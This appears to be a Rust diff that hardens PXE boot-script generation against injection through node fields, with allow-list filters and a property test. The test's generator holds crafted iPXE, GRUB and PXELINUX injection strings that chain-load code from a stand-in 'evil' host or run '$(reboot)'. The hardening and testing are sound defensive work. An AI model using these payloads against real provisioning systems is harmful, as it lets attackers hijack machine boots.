@@ -119,13 +119,37 @@ fn is_uefi(node: &Node) -> bool {
     mode.as_deref() == Some("uefi")
 }
 
-/// Drop characters that would break out of a config line.
-fn one_line(s: &str) -> String {
-    s.chars().filter(|c| !c.is_control()).collect::<String>().trim().to_owned()
+/// Whether `c` may appear in a kernel argument. Node fields (`kernel_append_params` in
+/// `driver_info` or `instance_info`) reach iPXE, GRUB and PXELINUX scripts, whose syntax
+/// gives meaning to `$ ; | & { } # " ' \` and line breaks (`||`/`&&` chain iPXE commands,
+/// `;` and `}` end GRUB commands and blocks, `${…}` expands settings): none of those is
+/// allowed, so a crafted value can only ever be an argument, never a command.
+fn safe_arg_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || "._-,:/=+@%~".contains(c)
 }
 
+/// Whether `c` may appear in a kernel or ramdisk reference (a file name or an http URL).
+fn safe_ref_char(c: char) -> bool {
+    c.is_ascii_alphanumeric() || "._-,:/=+@%~?".contains(c)
+}
+
+/// A kernel or ramdisk reference that is safe to put in a boot script.
+fn safe_ref(s: &str) -> bool {
+    !s.is_empty() && s.chars().all(safe_ref_char)
+}
+
+/// Split `parts` into kernel arguments and keep those made of safe characters only; a
+/// dropped argument is logged (it can only come from a crafted or broken node field).
 fn join_args<'a>(parts: impl IntoIterator<Item = &'a str>) -> String {
-    parts.into_iter().map(one_line).filter(|p| !p.is_empty()).collect::<Vec<_>>().join(" ")
+    let mut out: Vec<&str> = Vec::new();
+    for arg in parts.into_iter().flat_map(str::split_whitespace) {
+        if arg.chars().all(safe_arg_char) {
+            out.push(arg);
+        } else {
+            tracing::warn!(arg = %arg.escape_debug(), "kernel argument with boot-script syntax dropped");
+        }
+    }
+    out.join(" ")
 }
 
 /// The ramdisk command line shared by deploy, discovery and rescue.
@@ -157,12 +181,17 @@ pub fn decide(node: &Node, mac: MacAddress, cfg: &PxeConfig, request_id: &str) -
         );
         let pick = |key: &str, default: &str| {
             let rescue_key = key.replace("deploy_", "rescue_");
-            rescue
+            let chosen = rescue
                 .then(|| str_field(&node.driver_info, &rescue_key))
                 .flatten()
                 .or_else(|| str_field(&node.driver_info, key))
-                .unwrap_or(default)
-                .to_owned()
+                .unwrap_or(default);
+            if safe_ref(chosen) {
+                chosen.to_owned()
+            } else {
+                tracing::warn!(node = %node.uuid, key, "unsafe boot file reference; using the configured one");
+                default.to_owned()
+            }
         };
         let append = str_field(&node.driver_info, "kernel_append_params")
             .unwrap_or(&cfg.kernel_append_params);
@@ -178,7 +207,10 @@ pub fn decide(node: &Node, mac: MacAddress, cfg: &PxeConfig, request_id: &str) -
             if is_netboot(node) {
                 let kernel = str_field(&node.instance_info, "kernel");
                 let ramdisk = str_field(&node.instance_info, "ramdisk");
-                if let (Some(kernel), Some(ramdisk)) = (kernel, ramdisk) {
+                if let (Some(kernel), Some(ramdisk)) = (kernel, ramdisk)
+                    && safe_ref(kernel)
+                    && safe_ref(ramdisk)
+                {
                     let root = str_field(
                         &node.driver_internal_info,
                         deploy::internal_info::keys::ROOT_UUID_OR_DISK_ID,
@@ -194,7 +226,7 @@ pub fn decide(node: &Node, mac: MacAddress, cfg: &PxeConfig, request_id: &str) -
                         initrd_name: "ramdisk",
                     });
                 }
-                tracing::warn!(node = %node.uuid, "netboot without instance_info kernel/ramdisk; booting from disk");
+                tracing::warn!(node = %node.uuid, "netboot without usable instance_info kernel/ramdisk; booting from disk");
             }
             BootAction::LocalDisk { uefi: is_uefi(node) }
         }
@@ -465,6 +497,90 @@ mod tests {
         }
         for s in ALL_STATES.iter().filter(|s| !named.contains(s.as_str())) {
             assert_eq!(decide(&node_in(*s, false), mac, &cfg, "req-1"), BootAction::Exit, "{s}");
+        }
+    }
+
+    /// Strings made to break out of a boot script: iPXE `||`/`&&` chains and `${}`
+    /// expansion, GRUB `;`, `}` and `$`, PXELINUX directives on a new line, quotes and
+    /// backslashes, mixed with ordinary kernel arguments.
+    fn hostile() -> impl proptest::strategy::Strategy<Value = String> {
+        use proptest::prelude::*;
+        let pieces = prop_oneof![
+            Just(" || chain http://evil/x.ipxe".to_owned()),
+            Just(" && shell".to_owned()),
+            Just("\nshell\n".to_owned()),
+            Just("\r\nkernel http://evil/k\r\n".to_owned()),
+            Just("; insmod http; linux (http,evil)/k".to_owned()),
+            Just("}\nmenuentry \"x\" { chainloader (http,evil)/x }".to_owned()),
+            Just("${net0/mac}".to_owned()),
+            Just("$(reboot)".to_owned()),
+            Just("#comment".to_owned()),
+            Just("\"quoted arg\"".to_owned()),
+            Just("\\".to_owned()),
+            Just("\nAPPEND evil=1\nLABEL x".to_owned()),
+            Just("console=ttyS0,115200n8".to_owned()),
+            Just("ipa-debug=1".to_owned()),
+            "[ -~]{0,12}".prop_map(|s| s),
+            any::<String>(),
+        ];
+        proptest::collection::vec(pieces, 0..6).prop_map(|v| v.join(" "))
+    }
+
+    /// The first word of every line of a rendered script: the commands it runs.
+    fn commands(script: &str) -> Vec<String> {
+        script.lines().map(|l| l.split_whitespace().next().unwrap_or("").to_owned()).collect()
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::test_runner::Config { cases: 256, ..Default::default() })]
+
+        /// Crafted `kernel_append_params`, deploy kernel/ramdisk and instance kernel/ramdisk
+        /// render as harmless arguments in iPXE, GRUB and PXELINUX: the scripts have the
+        /// same lines and commands as with benign values, and the argument lines carry no
+        /// script syntax.
+        #[test]
+        fn test_node_fields_cannot_inject_boot_commands(
+            append in hostile(),
+            kernel in hostile(),
+            ramdisk in hostile(),
+            netboot in proptest::bool::ANY,
+        ) {
+            let cfg = PxeConfig::default();
+            let mac: MacAddress = "52:54:00:12:34:56".parse().unwrap();
+            let state = if netboot { ProvisionState::Active } else { ProvisionState::Deploying };
+            let benign = node_in(state, netboot);
+            let mut crafted = benign.clone();
+            crafted.driver_info.insert("kernel_append_params".into(), json!(append));
+            crafted.driver_info.insert("deploy_kernel".into(), json!(kernel));
+            crafted.driver_info.insert("deploy_ramdisk".into(), json!(ramdisk));
+            crafted.instance_info.insert("kernel_append_params".into(), json!(append));
+            crafted.instance_info.insert("kernel".into(), json!(kernel));
+            crafted.instance_info.insert("ramdisk".into(), json!(ramdisk));
+            let a = decide(&crafted, mac, &cfg, "req-1");
+            let b = decide(&benign, mac, &cfg, "req-1");
+            for format in [Format::Ipxe, Format::Grub, Format::Pxelinux] {
+                let got = render(format, &a, &cfg);
+                let want = render(format, &b, &cfg);
+                // A crafted instance kernel may fall back to the local disk: then compare
+                // with that script.
+                let want = if std::mem::discriminant(&a) == std::mem::discriminant(&b) {
+                    want
+                } else {
+                    render(format, &a, &cfg)
+                };
+                proptest::prop_assert_eq!(commands(&got), commands(&want), "{}", got);
+                for line in got.lines() {
+                    let word = line.split_whitespace().next().unwrap_or("");
+                    if matches!(word, "kernel" | "linux" | "append" | "initrd") {
+                        let body = line.trim_start();
+                        // The template's own `|| goto retry` is the only operator allowed.
+                        let body = body.strip_suffix(" || goto retry").unwrap_or(body);
+                        for bad in ["||", "&&", ";", "$", "{", "}", "#", "\"", "'", "\\", "\r"] {
+                            proptest::prop_assert!(!body.contains(bad), "{:?} in {:?}", bad, line);
+                        }
+                    }
+                }
+            }
         }
     }
 }
